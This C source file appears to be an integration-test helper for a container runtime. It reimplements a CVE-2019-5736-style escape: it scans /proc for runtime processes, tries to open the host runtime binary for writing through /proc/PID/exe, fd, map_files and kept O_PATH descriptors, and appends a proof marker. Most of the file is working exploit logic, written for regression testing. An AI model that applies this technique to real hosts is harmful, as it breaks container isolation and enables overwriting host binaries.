/* A CVE-2019-5736-style attacker, run as a container's init by integration/host/exe_seal.rs.
 *
 * usage: exe_attacker REPORT DONE DEV INO SIZE
 *   DEV/INO identify the host's runtime binary, SIZE is its size in bytes.
 *
 * It watches /proc (the container's pid namespace) for new processes. A process whose
 * /proc/PID/exe has the runtime binary's size is a runtime process entering the container
 * (an `exec` child before its execve): it is reported as "seen", and the attacker tries to open
 * the binary for writing through /proc/PID/exe, /proc/PID/fd/* and /proc/PID/map_files/*, now
 * and again later through an O_PATH fd it keeps (the original exploit waits for the runtime to
 * exit, when ETXTBSY no longer protects the file). A successful write open of the binary
 * (same dev and inode) is reported as "opened", and the attacker then appends 8 bytes to prove
 * the write lands ("wrote") and stops attacking: holding the binary open for writing any
 * longer would only make the runtime's next execve fail (ETXTBSY). When the file DONE appears
 * it retries every kept fd once more, writes "finished" and exits.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_KEPT 4096
#define MAX_PID (1 << 22)

static FILE *report;
static dev_t bin_dev;
static ino_t bin_ino;
static off_t bin_size;
static int kept[MAX_KEPT];
static int nkept;
static unsigned char seen[MAX_PID];
static int proved;

/* Try both write modes on PATH; report and prove any that reaches the runtime binary. */
static void try_write(const char *path, const char *how, int pid)
{
    static const int modes[] = { O_WRONLY, O_RDWR };
    for (unsigned i = 0; i < sizeof modes / sizeof modes[0] && !proved; i++) {
        int fd = open(path, modes[i] | O_CLOEXEC);
        if (fd < 0)
            continue;
        struct stat st;
        if (fstat(fd, &st) == 0 && st.st_dev == bin_dev && st.st_ino == bin_ino) {
            fprintf(report, "opened %s %d %s\n", how, pid, modes[i] == O_WRONLY ? "O_WRONLY" : "O_RDWR");
            if (lseek(fd, 0, SEEK_END) >= 0 && write(fd, "PWNED!!\n", 8) == 8)
                fprintf(report, "wrote %s %d\n", how, pid);
            proved = 1;
        }
        close(fd);
    }
}

/* Every entry of DIR (fd or map_files) that is the binary, or has its size, is tried. */
static void try_dir(int pid, const char *dir)
{
    char path[128];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, dir);
    DIR *d = opendir(path);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        char entry[512];
        struct stat st;
        snprintf(entry, sizeof entry, "%s/%s", path, e->d_name);
        if (stat(entry, &st) == 0 && (st.st_size == bin_size || st.st_ino == bin_ino))
            try_write(entry, dir, pid);
    }
    closedir(d);
}

static void probe(int pid)
{
    char exe[64];
    snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
    int fd = open(exe, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    struct stat st;
    if (fstat(fd, &st) != 0 || st.st_size != bin_size) {
        close(fd);
        return;
    }
    fprintf(report, "seen %d\n", pid);
    try_write(exe, "exe", pid);
    try_dir(pid, "fd");
    try_dir(pid, "map_files");
    if (nkept < MAX_KEPT)
        kept[nkept++] = fd;
    else
        close(fd);
}

/* Reopen every kept O_PATH fd for writing: the exploit's second step. */
static void retry_kept(void)
{
    for (int i = 0; i < nkept; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        try_write(path, "kept", 0);
    }
}

int main(int argc, char **argv)
{
    if (argc != 6)
        return 2;
    report = fopen(argv[1], "a");
    if (!report)
        return 3;
    setvbuf(report, NULL, _IOLBF, 0);
    bin_dev = strtoull(argv[3], NULL, 10);
    bin_ino = strtoull(argv[4], NULL, 10);
    bin_size = strtoll(argv[5], NULL, 10);
    int self = getpid();
    fprintf(report, "ready\n");
    DIR *proc = opendir("/proc");
    if (!proc)
        return 4;
    for (unsigned long round = 0;; round++) {
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        rewinddir(proc);
        struct dirent *e;
        while ((e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self || pid >= MAX_PID || seen[pid])
                continue;
            seen[pid] = 1;
            probe(pid);
        }
        if (round % 256 == 0) {
            retry_kept();
            if (access(argv[2], F_OK) == 0)
                break;
        }
    }
    retry_kept();
    fprintf(report, "finished\n");
    return 0;
}
